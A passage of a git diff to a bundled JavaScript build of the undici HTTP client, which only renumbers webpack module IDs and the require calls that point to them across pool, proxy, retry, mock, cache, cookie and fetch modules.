 const DEFAULT_PORTS = {
   'http:': 80,
@@ -16430,7 +16665,7 @@ module.exports = EnvHttpProxyAgent
 
 /***/ }),
 
-/***/ 9220:
+/***/ 4660:
 /***/ ((module) => {
 
 /* eslint-disable */
@@ -16554,15 +16789,15 @@ module.exports = class FixedQueue {
 
 /***/ }),
 
-/***/ 7632:
+/***/ 2128:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const DispatcherBase = __nccwpck_require__(8641)
-const FixedQueue = __nccwpck_require__(9220)
-const { kConnected, kSize, kRunning, kPending, kQueued, kBusy, kFree, kUrl, kClose, kDestroy, kDispatch } = __nccwpck_require__(1003)
-const PoolStats = __nccwpck_require__(398)
+const DispatcherBase = __nccwpck_require__(1841)
+const FixedQueue = __nccwpck_require__(4660)
+const { kConnected, kSize, kRunning, kPending, kQueued, kBusy, kFree, kUrl, kClose, kDestroy, kDispatch } = __nccwpck_require__(6443)
+const PoolStats = __nccwpck_require__(3246)
 
 const kClients = Symbol('clients')
 const kNeedDrain = Symbol('needDrain')
@@ -16755,10 +16990,10 @@ module.exports = {
 
 /***/ }),
 
-/***/ 398:
+/***/ 3246:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
-const { kFree, kConnected, kPending, kQueued, kRunning, kSize } = __nccwpck_require__(1003)
+const { kFree, kConnected, kPending, kQueued, kRunning, kSize } = __nccwpck_require__(6443)
 const kPool = Symbol('pool')
 
 class PoolStats {
@@ -16796,7 +17031,7 @@ module.exports = PoolStats
 
 /***/ }),
 
-/***/ 20:
+/***/ 628:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -16807,14 +17042,14 @@ const {
   kNeedDrain,
   kAddClient,
   kGetDispatcher
-} = __nccwpck_require__(7632)
-const Client = __nccwpck_require__(5061)
+} = __nccwpck_require__(2128)
+const Client = __nccwpck_require__(3701)
 const {
   InvalidArgumentError
-} = __nccwpck_require__(1059)
-const util = __nccwpck_require__(2272)
-const { kUrl, kInterceptors } = __nccwpck_require__(1003)
-const buildConnector = __nccwpck_require__(1952)
+} = __nccwpck_require__(8707)
+const util = __nccwpck_require__(3440)
+const { kUrl, kInterceptors } = __nccwpck_require__(6443)
+const buildConnector = __nccwpck_require__(9136)
 
 const kOptions = Symbol('options')
 const kConnections = Symbol('connections')
@@ -16910,19 +17145,19 @@ module.exports = Pool
 
 /***/ }),
 
-/***/ 7408:
+/***/ 6672:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kProxy, kClose, kDestroy, kDispatch, kInterceptors } = __nccwpck_require__(1003)
+const { kProxy, kClose, kDestroy, kDispatch, kInterceptors } = __nccwpck_require__(6443)
 const { URL } = __nccwpck_require__(3136)
-const Agent = __nccwpck_require__(3389)
-const Pool = __nccwpck_require__(20)
-const DispatcherBase = __nccwpck_require__(8641)
-const { InvalidArgumentError, RequestAbortedError, SecureProxyConnectionError } = __nccwpck_require__(1059)
-const buildConnector = __nccwpck_require__(1952)
-const Client = __nccwpck_require__(5061)
+const Agent = __nccwpck_require__(7405)
+const Pool = __nccwpck_require__(628)
+const DispatcherBase = __nccwpck_require__(1841)
+const { InvalidArgumentError, RequestAbortedError, SecureProxyConnectionError } = __nccwpck_require__(8707)
+const buildConnector = __nccwpck_require__(9136)
+const Client = __nccwpck_require__(3701)
 
 const kAgent = Symbol('proxy agent')
 const kClient = Symbol('proxy client')
@@ -17191,13 +17426,13 @@ module.exports = ProxyAgent
 
 /***/ }),
 
-/***/ 8610:
+/***/ 50:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const Dispatcher = __nccwpck_require__(2243)
-const RetryHandler = __nccwpck_require__(1131)
+const Dispatcher = __nccwpck_require__(883)
+const RetryHandler = __nccwpck_require__(7816)
 
 class RetryAgent extends Dispatcher {
   #agent = null
@@ -17233,7 +17468,7 @@ module.exports = RetryAgent
 
 /***/ }),
 
-/***/ 8085:
+/***/ 2581:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -17241,8 +17476,8 @@ module.exports = RetryAgent
 // We include a version number for the Dispatcher API. In case of breaking changes,
 // this version number must be increased to avoid conflicts.
 const globalDispatcher = Symbol.for('undici.globalDispatcher.1')
-const { InvalidArgumentError } = __nccwpck_require__(1059)
-const Agent = __nccwpck_require__(3389)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
+const Agent = __nccwpck_require__(7405)
 
 if (getGlobalDispatcher() === undefined) {
   setGlobalDispatcher(new Agent())
@@ -17272,7 +17507,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5579:
+/***/ 8155:
 /***/ ((module) => {
 
 
@@ -17323,15 +17558,15 @@ module.exports = class DecoratorHandler {
 
 /***/ }),
 
-/***/ 9714:
+/***/ 8754:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const util = __nccwpck_require__(2272)
-const { kBodyUsed } = __nccwpck_require__(1003)
+const util = __nccwpck_require__(3440)
+const { kBodyUsed } = __nccwpck_require__(6443)
 const assert = __nccwpck_require__(4589)
-const { InvalidArgumentError } = __nccwpck_require__(1059)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
 const EE = __nccwpck_require__(8474)
 
 const redirectableStatusCodes = [300, 301, 302, 303, 307, 308]
@@ -17562,20 +17797,20 @@ module.exports = RedirectHandler
 
 /***/ }),
 
-/***/ 1131:
+/***/ 7816:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 const assert = __nccwpck_require__(4589)
 
-const { kRetryHandlerDefaultRetry } = __nccwpck_require__(1003)
-const { RequestRetryError } = __nccwpck_require__(1059)
+const { kRetryHandlerDefaultRetry } = __nccwpck_require__(6443)
+const { RequestRetryError } = __nccwpck_require__(8707)
 const {
   isDisturbed,
   parseHeaders,
   parseRangeHeader,
   wrapRequestBody
-} = __nccwpck_require__(2272)
+} = __nccwpck_require__(3440)
 
 function calculateRetryAfterHeader (retryAfter) {
   const current = Date.now()
@@ -18006,14 +18241,14 @@ module.exports = RetryHandler
 
 /***/ }),
 
-/***/ 1643:
+/***/ 379:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 const { isIP } = __nccwpck_require__(7030)
 const { lookup } = __nccwpck_require__(610)
-const DecoratorHandler = __nccwpck_require__(5579)
-const { InvalidArgumentError, InformationalError } = __nccwpck_require__(1059)
+const DecoratorHandler = __nccwpck_require__(8155)
+const { InvalidArgumentError, InformationalError } = __nccwpck_require__(8707)
 const maxInt = Math.pow(2, 31) - 1
 
 class DNSInstance {
@@ -18388,14 +18623,14 @@ module.exports = interceptorOpts => {
 
 /***/ }),
 
-/***/ 5596:
+/***/ 8060:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const util = __nccwpck_require__(2272)
-const { InvalidArgumentError, RequestAbortedError } = __nccwpck_require__(1059)
-const DecoratorHandler = __nccwpck_require__(5579)
+const util = __nccwpck_require__(3440)
+const { InvalidArgumentError, RequestAbortedError } = __nccwpck_require__(8707)
+const DecoratorHandler = __nccwpck_require__(8155)
 
 class DumpHandler extends DecoratorHandler {
   #maxSize = 1024 * 1024
@@ -18518,12 +18753,12 @@ module.exports = createDumpInterceptor
 
 /***/ }),
 
-/***/ 2276:
+/***/ 5092:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const RedirectHandler = __nccwpck_require__(9714)
+const RedirectHandler = __nccwpck_require__(8754)
 
 function createRedirectInterceptor ({ maxRedirections: defaultMaxRedirections }) {
   return (dispatch) => {
@@ -18546,11 +18781,11 @@ module.exports = createRedirectInterceptor
 
 /***/ }),
 
-/***/ 1530:
+/***/ 1514:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
-const RedirectHandler = __nccwpck_require__(9714)
+const RedirectHandler = __nccwpck_require__(8754)
 
 module.exports = opts => {
   const globalMaxRedirections = opts?.maxRedirections
@@ -18577,11 +18812,11 @@ module.exports = opts => {
 
 /***/ }),
 
-/***/ 7114:
+/***/ 2026:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
-const RetryHandler = __nccwpck_require__(1131)
+const RetryHandler = __nccwpck_require__(7816)
 
 module.exports = globalOpts => {
   return dispatch => {
@@ -18603,13 +18838,13 @@ module.exports = globalOpts => {
 
 /***/ }),
 
-/***/ 3512:
+/***/ 2824:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.SPECIAL_HEADERS = exports.HEADER_STATE = exports.MINOR = exports.MAJOR = exports.CONNECTION_TOKEN_CHARS = exports.HEADER_CHARS = exports.TOKEN = exports.STRICT_TOKEN = exports.HEX = exports.URL_CHAR = exports.STRICT_URL_CHAR = exports.USERINFO_CHARS = exports.MARK = exports.ALPHANUM = exports.NUM = exports.HEX_MAP = exports.NUM_MAP = exports.ALPHA = exports.FINISH = exports.H_METHOD_MAP = exports.METHOD_MAP = exports.METHODS_RTSP = exports.METHODS_ICE = exports.METHODS_HTTP = exports.METHODS = exports.LENIENT_FLAGS = exports.FLAGS = exports.TYPE = exports.ERROR = void 0;
-const utils_1 = __nccwpck_require__(6972);
+const utils_1 = __nccwpck_require__(172);
 // C headers
 var ERROR;
 (function (ERROR) {
@@ -18887,7 +19122,7 @@ exports.SPECIAL_HEADERS = {
 
 /***/ }),
 
-/***/ 1630:
+/***/ 3870:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -18899,7 +19134,7 @@ module.exports = Buffer.from('AGFzbQEAAAABJwdgAX8Bf2ADf39/AX9gAX8AYAJ/fwBgBH9/f3
 
 /***/ }),
 
-/***/ 4826:
+/***/ 3434:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -18911,7 +19146,7 @@ module.exports = Buffer.from('AGFzbQEAAAABJwdgAX8Bf2ADf39/AX9gAX8AYAJ/fwBgBH9/f3
 
 /***/ }),
 
-/***/ 6972:
+/***/ 172:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -18932,13 +19167,13 @@ exports.enumToMap = enumToMap;
 
 /***/ }),
 
-/***/ 2781:
+/***/ 7501:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kClients } = __nccwpck_require__(1003)
-const Agent = __nccwpck_require__(3389)
+const { kClients } = __nccwpck_require__(6443)
+const Agent = __nccwpck_require__(7405)
 const {
   kAgent,
   kMockAgentSet,
@@ -18949,14 +19184,14 @@ const {
   kGetNetConnect,
   kOptions,
   kFactory
-} = __nccwpck_require__(1501)
-const MockClient = __nccwpck_require__(6197)
-const MockPool = __nccwpck_require__(9396)
-const { matchValue, buildMockOptions } = __nccwpck_require__(1205)
-const { InvalidArgumentError, UndiciError } = __nccwpck_require__(1059)
-const Dispatcher = __nccwpck_require__(2243)
-const Pluralizer = __nccwpck_require__(8233)
-const PendingInterceptorsFormatter = __nccwpck_require__(6110)
+} = __nccwpck_require__(1117)
+const MockClient = __nccwpck_require__(7365)
+const MockPool = __nccwpck_require__(4004)
+const { matchValue, buildMockOptions } = __nccwpck_require__(3397)
+const { InvalidArgumentError, UndiciError } = __nccwpck_require__(8707)
+const Dispatcher = __nccwpck_require__(883)
+const Pluralizer = __nccwpck_require__(1529)
+const PendingInterceptorsFormatter = __nccwpck_require__(6142)
 
 class MockAgent extends Dispatcher {
   constructor (opts) {
@@ -19099,14 +19334,14 @@ module.exports = MockAgent
 
 /***/ }),
 
-/***/ 6197:
+/***/ 7365:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { promisify } = __nccwpck_require__(7975)
-const Client = __nccwpck_require__(5061)
-const { buildMockDispatch } = __nccwpck_require__(1205)
+const Client = __nccwpck_require__(3701)
+const { buildMockDispatch } = __nccwpck_require__(3397)
 const {
   kDispatches,
   kMockAgent,
@@ -19115,10 +19350,10 @@ const {
   kOrigin,
   kOriginalDispatch,
   kConnected
-} = __nccwpck_require__(1501)
-const { MockInterceptor } = __nccwpck_require__(3319)
-const Symbols = __nccwpck_require__(1003)
-const { InvalidArgumentError } = __nccwpck_require__(1059)
+} = __nccwpck_require__(1117)
+const { MockInterceptor } = __nccwpck_require__(1511)
+const Symbols = __nccwpck_require__(6443)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
 
 /**
  * MockClient provides an API that extends the Client to influence the mockDispatches.
@@ -19165,12 +19400,12 @@ module.exports = MockClient
 
 /***/ }),
 
-/***/ 9037:
+/***/ 2429:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { UndiciError } = __nccwpck_require__(1059)
+const { UndiciError } = __nccwpck_require__(8707)
 
 const kMockNotMatchedError = Symbol.for('undici.error.UND_MOCK_ERR_MOCK_NOT_MATCHED')
 
@@ -19200,12 +19435,12 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3319:
+/***/ 1511:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { getResponseData, buildKey, addMockDispatch } = __nccwpck_require__(1205)
+const { getResponseData, buildKey, addMockDispatch } = __nccwpck_require__(3397)
 const {
   kDispatches,
   kDispatchKey,
@@ -19213,9 +19448,9 @@ const {
   kDefaultTrailers,
   kContentLength,
   kMockDispatch
-} = __nccwpck_require__(1501)
-const { InvalidArgumentError } = __nccwpck_require__(1059)
-const { buildURL } = __nccwpck_require__(2272)
+} = __nccwpck_require__(1117)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
+const { buildURL } = __nccwpck_require__(3440)
 
 /**
  * Defines the scope API for an interceptor reply
@@ -19414,14 +19649,14 @@ module.exports.MockScope = MockScope
 
 /***/ }),
 
-/***/ 9396:
+/***/ 4004:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { promisify } = __nccwpck_require__(7975)
-const Pool = __nccwpck_require__(20)
-const { buildMockDispatch } = __nccwpck_require__(1205)
+const Pool = __nccwpck_require__(628)
+const { buildMockDispatch } = __nccwpck_require__(3397)
 const {
   kDispatches,
   kMockAgent,
@@ -19430,10 +19665,10 @@ const {
   kOrigin,
   kOriginalDispatch,
   kConnected
-} = __nccwpck_require__(1501)
-const { MockInterceptor } = __nccwpck_require__(3319)
-const Symbols = __nccwpck_require__(1003)
-const { InvalidArgumentError } = __nccwpck_require__(1059)
+} = __nccwpck_require__(1117)
+const { MockInterceptor } = __nccwpck_require__(1511)
+const Symbols = __nccwpck_require__(6443)
+const { InvalidArgumentError } = __nccwpck_require__(8707)
 
 /**
  * MockPool provides an API that extends the Pool to influence the mockDispatches.
@@ -19480,7 +19715,7 @@ module.exports = MockPool
 
 /***/ }),
 
-/***/ 1501:
+/***/ 1117:
 /***/ ((module) => {
 
 
@@ -19510,20 +19745,20 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1205:
+/***/ 3397:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { MockNotMatchedError } = __nccwpck_require__(9037)
+const { MockNotMatchedError } = __nccwpck_require__(2429)
 const {
   kDispatches,
   kMockAgent,
   kOriginalDispatch,
   kOrigin,
   kGetNetConnect
-} = __nccwpck_require__(1501)
-const { buildURL } = __nccwpck_require__(2272)
+} = __nccwpck_require__(1117)
+const { buildURL } = __nccwpck_require__(3440)
 const { STATUS_CODES } = __nccwpck_require__(7067)
 const {
   types: {
@@ -19884,7 +20119,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 6110:
+/***/ 6142:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -19934,7 +20169,7 @@ module.exports = class PendingInterceptorsFormatter {
 
 /***/ }),
 
-/***/ 8233:
+/***/ 1529:
 /***/ ((module) => {
 
 
@@ -19970,7 +20205,7 @@ module.exports = class Pluralizer {
 
 /***/ }),
 
-/***/ 7787:
+/***/ 6603:
 /***/ ((module) => {
 
 
@@ -20400,20 +20635,20 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3186:
+/***/ 9634:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kConstruct } = __nccwpck_require__(3165)
-const { urlEquals, getFieldValues } = __nccwpck_require__(5025)
-const { kEnumerableProperty, isDisturbed } = __nccwpck_require__(2272)
-const { webidl } = __nccwpck_require__(1861)
-const { Response, cloneResponse, fromInnerResponse } = __nccwpck_require__(1627)
-const { Request, fromInnerRequest } = __nccwpck_require__(268)
-const { kState } = __nccwpck_require__(907)
-const { fetching } = __nccwpck_require__(3345)
-const { urlIsHttpHttpsScheme, createDeferredPromise, readAllBytes } = __nccwpck_require__(1168)
+const { kConstruct } = __nccwpck_require__(109)
+const { urlEquals, getFieldValues } = __nccwpck_require__(6798)
+const { kEnumerableProperty, isDisturbed } = __nccwpck_require__(3440)
+const { webidl } = __nccwpck_require__(5893)
+const { Response, cloneResponse, fromInnerResponse } = __nccwpck_require__(9051)
+const { Request, fromInnerRequest } = __nccwpck_require__(9967)
+const { kState } = __nccwpck_require__(3627)
+const { fetching } = __nccwpck_require__(4398)
+const { urlIsHttpHttpsScheme, createDeferredPromise, readAllBytes } = __nccwpck_require__(3168)
 const assert = __nccwpck_require__(4589)
 
 /**
@@ -21266,15 +21501,15 @@ module.exports = {
 
 /***/ }),
 
-/***/ 4045:
+/***/ 3245:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kConstruct } = __nccwpck_require__(3165)
-const { Cache } = __nccwpck_require__(3186)
-const { webidl } = __nccwpck_require__(1861)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
+const { kConstruct } = __nccwpck_require__(109)
+const { Cache } = __nccwpck_require__(9634)
+const { webidl } = __nccwpck_require__(5893)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
 
 class CacheStorage {
   /**
@@ -21425,26 +21660,26 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3165:
+/***/ 109:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 module.exports = {
-  kConstruct: (__nccwpck_require__(1003).kConstruct)
+  kConstruct: (__nccwpck_require__(6443).kConstruct)
 }
 
 
 /***/ }),
 
-/***/ 5025:
+/***/ 6798:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const assert = __nccwpck_require__(4589)
-const { URLSerializer } = __nccwpck_require__(428)
-const { isValidHeaderName } = __nccwpck_require__(1168)
+const { URLSerializer } = __nccwpck_require__(1900)
+const { isValidHeaderName } = __nccwpck_require__(3168)
 
 /**
  * @see https://url.spec.whatwg.org/#concept-url-equals
@@ -21489,7 +21724,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 2044:
+/***/ 1276:
 /***/ ((module) => {
 
 
@@ -21508,15 +21743,15 @@ module.exports = {
 
 /***/ }),
 
-/***/ 6693:
+/***/ 9061:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { parseSetCookie } = __nccwpck_require__(7818)
-const { stringify } = __nccwpck_require__(1061)
-const { webidl } = __nccwpck_require__(1861)
-const { Headers } = __nccwpck_require__(548)
+const { parseSetCookie } = __nccwpck_require__(1978)
+const { stringify } = __nccwpck_require__(7797)
+const { webidl } = __nccwpck_require__(5893)
+const { Headers } = __nccwpck_require__(660)
 
 /**
  * @typedef {Object} Cookie
@@ -21699,14 +21934,14 @@ module.exports = {
 
 /***/ }),
 
-/***/ 7818:
+/***/ 1978:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { maxNameValuePairSize, maxAttributeValueSize } = __nccwpck_require__(2044)
-const { isCTLExcludingHtab } = __nccwpck_require__(1061)
-const { collectASequenceOfCodePointsFast } = __nccwpck_require__(428)
+const { maxNameValuePairSize, maxAttributeValueSize } = __nccwpck_require__(1276)
+const { isCTLExcludingHtab } = __nccwpck_require__(7797)
+const { collectASequenceOfCodePointsFast } = __nccwpck_require__(1900)
 const assert = __nccwpck_require__(4589)
 
 /**
@@ -22016,7 +22251,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 1061:
+/***/ 7797:
 /***/ ((module) => {
 
 
@@ -22375,13 +22610,13 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3535:
+/***/ 4031:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 const buffer = __nccwpck_require__(4573)
 const { Transform } = __nccwpck_require__(7075)
-const { isASCIINumber, isValidLastEventId } = __nccwpck_require__(9003)
+const { isASCIINumber, isValidLastEventId } = __nccwpck_require__(4811)
 
 /**
  * @type {number[]} BOM
@@ -22956,23 +23191,23 @@ module.exports = {
 
 /***/ }),
 
-/***/ 8742:
+/***/ 1238:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { pipeline } = __nccwpck_require__(7075)
-const { fetching } = __nccwpck_require__(3345)
-const { makeRequest } = __nccwpck_require__(268)
-const { webidl } = __nccwpck_require__(1861)
-const { EventSourceStream } = __nccwpck_require__(3535)
-const { parseMIMEType } = __nccwpck_require__(428)
-const { createFastMessageEvent } = __nccwpck_require__(5924)
-const { isNetworkError } = __nccwpck_require__(1627)
-const { delay } = __nccwpck_require__(9003)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
-const { environmentSettingsObject } = __nccwpck_require__(1168)
-const { getGlobalDispatcher } = __nccwpck_require__(8085)
+const { fetching } = __nccwpck_require__(4398)
+const { makeRequest } = __nccwpck_require__(9967)
+const { webidl } = __nccwpck_require__(5893)
+const { EventSourceStream } = __nccwpck_require__(4031)
+const { parseMIMEType } = __nccwpck_require__(1900)
+const { createFastMessageEvent } = __nccwpck_require__(5188)
+const { isNetworkError } = __nccwpck_require__(9051)
+const { delay } = __nccwpck_require__(4811)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
+const { environmentSettingsObject } = __nccwpck_require__(3168)
+const { getGlobalDispatcher } = __nccwpck_require__(2581)
 
 let experimentalWarned = false
 
@@ -23446,7 +23681,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9003:
+/***/ 4811:
 /***/ ((module) => {
 
 
@@ -23490,12 +23725,12 @@ module.exports = {
 
 /***/ }),
 
-/***/ 9852:
+/***/ 4492:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const util = __nccwpck_require__(2272)
+const util = __nccwpck_require__(3440)
 const {
   ReadableStreamFrom,
   isBlobLike,
@@ -23505,16 +23740,16 @@ const {
   fullyReadBody,
   extractMimeType,
   utf8DecodeBytes
-} = __nccwpck_require__(1168)
-const { FormData } = __nccwpck_require__(2134)
-const { kState } = __nccwpck_require__(907)
-const { webidl } = __nccwpck_require__(1861)
+} = __nccwpck_require__(3168)
+const { FormData } = __nccwpck_require__(5910)
+const { kState } = __nccwpck_require__(3627)
+const { webidl } = __nccwpck_require__(5893)
 const { Blob } = __nccwpck_require__(4573)
 const assert = __nccwpck_require__(4589)
 const { isErrored, isDisturbed } = __nccwpck_require__(7075)
 const { isArrayBuffer } = __nccwpck_require__(3429)
-const { serializeAMimeType } = __nccwpck_require__(428)
-const { multipartFormDataParser } = __nccwpck_require__(948)
+const { serializeAMimeType } = __nccwpck_require__(1900)
+const { multipartFormDataParser } = __nccwpck_require__(116)
 let random
 
 try {
@@ -24026,7 +24261,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 5055:
+/***/ 4495:
 /***/ ((module) => {
 
 
@@ -24157,7 +24392,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 428:
+/***/ 1900:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
@@ -24908,12 +25143,12 @@ module.exports = {
 
 /***/ }),
 
-/***/ 8701:
+/***/ 6653:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { kConnected, kSize } = __nccwpck_require__(1003)
+const { kConnected, kSize } = __nccwpck_require__(6443)
 
 class CompatWeakRef {
   constructor (value) {
@@ -24961,14 +25196,14 @@ module.exports = function () {
 
 /***/ }),
 
-/***/ 5114:
+/***/ 7114:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
 const { Blob, File } = __nccwpck_require__(4573)
-const { kState } = __nccwpck_require__(907)
-const { webidl } = __nccwpck_require__(1861)
+const { kState } = __nccwpck_require__(3627)
+const { webidl } = __nccwpck_require__(5893)
 
 // TODO(@KhafraDev): remove
 class FileLike {
@@ -25094,16 +25329,16 @@ module.exports = { FileLike, isFileLike }
 
 /***/ }),
 
-/***/ 948:
+/***/ 116:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { isUSVString, bufferToLowerCasedHeaderName } = __nccwpck_require__(2272)
-const { utf8DecodeBytes } = __nccwpck_require__(1168)
-const { HTTP_TOKEN_CODEPOINTS, isomorphicDecode } = __nccwpck_require__(428)
-const { isFileLike } = __nccwpck_require__(5114)
-const { makeEntry } = __nccwpck_require__(2134)
+const { isUSVString, bufferToLowerCasedHeaderName } = __nccwpck_require__(3440)
+const { utf8DecodeBytes } = __nccwpck_require__(3168)
+const { HTTP_TOKEN_CODEPOINTS, isomorphicDecode } = __nccwpck_require__(1900)
+const { isFileLike } = __nccwpck_require__(7114)
+const { makeEntry } = __nccwpck_require__(5910)
 const assert = __nccwpck_require__(4589)
 const { File: NodeFile } = __nccwpck_require__(4573)
 
@@ -25575,16 +25810,16 @@ module.exports = {
 
 /***/ }),
 
-/***/ 2134:
+/***/ 5910:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 
 
-const { isBlobLike, iteratorMixin } = __nccwpck_require__(1168)
-const { kState } = __nccwpck_require__(907)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
-const { FileLike, isFileLike } = __nccwpck_require__(5114)
-const { webidl } = __nccwpck_require__(1861)
+const { isBlobLike, iteratorMixin } = __nccwpck_require__(3168)
+const { kState } = __nccwpck_require__(3627)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
+const { FileLike, isFileLike } = __nccwpck_require__(7114)
+const { webidl } = __nccwpck_require__(5893)
 const { File: NativeFile } = __nccwpck_require__(4573)
 const nodeUtil = __nccwpck_require__(7975)
 
@@ -25834,7 +26069,7 @@ module.exports = { FormData, makeEntry }
 
 /***/ }),
 
-/***/ 5779:
+/***/ 1059:
 /***/ ((module) => {
 
 
@@ -25881,21 +26116,21 @@ module.exports = {
 
 /***/ }),
 
-/***/ 548:
+/***/ 660:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 // https://github.com/Ethan-Arrowood/undici-fetch
 
 
 
-const { kConstruct } = __nccwpck_require__(1003)
-const { kEnumerableProperty } = __nccwpck_require__(2272)
+const { kConstruct } = __nccwpck_require__(6443)
+const { kEnumerableProperty } = __nccwpck_require__(3440)
 const {
   iteratorMixin,
   isValidHeaderName,
   isValidHeaderValue
-} = __nccwpck_require__(1168)
-const { webidl } = __nccwpck_require__(1861)
+} = __nccwpck_require__(3168)
+const { webidl } = __nccwpck_require__(5893)
 const assert = __nccwpck_require__(4589)
 const util = __nccwpck_require__(7975)
 
@@ -26575,7 +26810,7 @@ module.exports = {
 
 /***/ }),
 
-/***/ 3345:
+/***/ 4398:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 // https://github.com/Ethan-Arrowood/undici-fetch
@@ -26588,9 +26823,9 @@ const {
   filterResponse,
   makeResponse,
   fromInnerResponse
-} = __nccwpck_require__(1627)
-const { HeadersList } = __nccwpck_require__(548)
-const { Request, cloneRequest } = __nccwpck_require__(268)
+} = __nccwpck_require__(9051)
+const { HeadersList } = __nccwpck_require__(660)
+const { Request, cloneRequest } = __nccwpck_require__(9967)
 const zlib = __nccwpck_require__(8522)
 const {
   bytesMatch,
@@ -26626,23 +26861,23 @@ const {
   buildContentRange,
   createInflate,
   extractMimeType
-} = __nccwpck_require__(1168)
-const { kState, kDispatcher } = __nccwpck_require__(907)
+} = __nccwpck_require__(3168)
+const { kState, kDispatcher } = __nccwpck_require__(3627)
 const assert = __nccwpck_require__(4589)
-const { safelyExtractBody, extractBody } = __nccwpck_require__(9852)
+const { safelyExtractBody, extractBody } = __nccwpck_require__(4492)
 const {
   redirectStatusSet,
   nullBodyStatus,
   safeMethodsSet,
   requestBodyHeader,
   subresourceSet
-} = __nccwpck_require__(5055)
+} = __nccwpck_require__(4495)
 const EE = __nccwpck_require__(8474)
 const { Readable, pipeline, finished } = __nccwpck_require__(7075)
-const { addAbortListener, isErrored, isReadable, bufferToLowerCasedHeaderName } = __nccwpck_require__(2272)
-const { dataURLProcessor, serializeAMimeType, minimizeSupportedMimeType } = __nccwpck_require__(428)
-const { getGlobalDispatcher } = __nccwpck_require__(8085)
-const { webidl } = __nccwpck_require__(1861)
+const { addAbortListener, isErrored, isReadable, bufferToLowerCasedHeaderName } = __nccwpck_require__(3440)
+const { dataURLProcessor, serializeAMimeType, minimizeSupportedMimeType } = __nccwpck_require__(1900)
+const { getGlobalDispatcher } = __nccwpck_require__(2581)
+const { webidl } = __nccwpck_require__(5893)
 const { STATUS_CODES } = __nccwpck_require__(7067)
 const GET_OR_HEAD = ['GET', 'HEAD']
 
@@ -28852,23 +29087,23 @@ module.exports = {
 
 /***/ }),
 
-/***/ 268:
+/***/ 9967:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
 /* globals AbortController */
 
 
 
-const { extractBody, mixinBody, cloneBody, bodyUnusable } = __nccwpck_require__(9852)
-const { Headers, fill: fillHeaders, HeadersList, setHeadersGuard, getHeadersGuard, setHeadersList, getHeadersList } = __nccwpck_require__(548)
-const { FinalizationRegistry } = __nccwpck_require__(8701)()
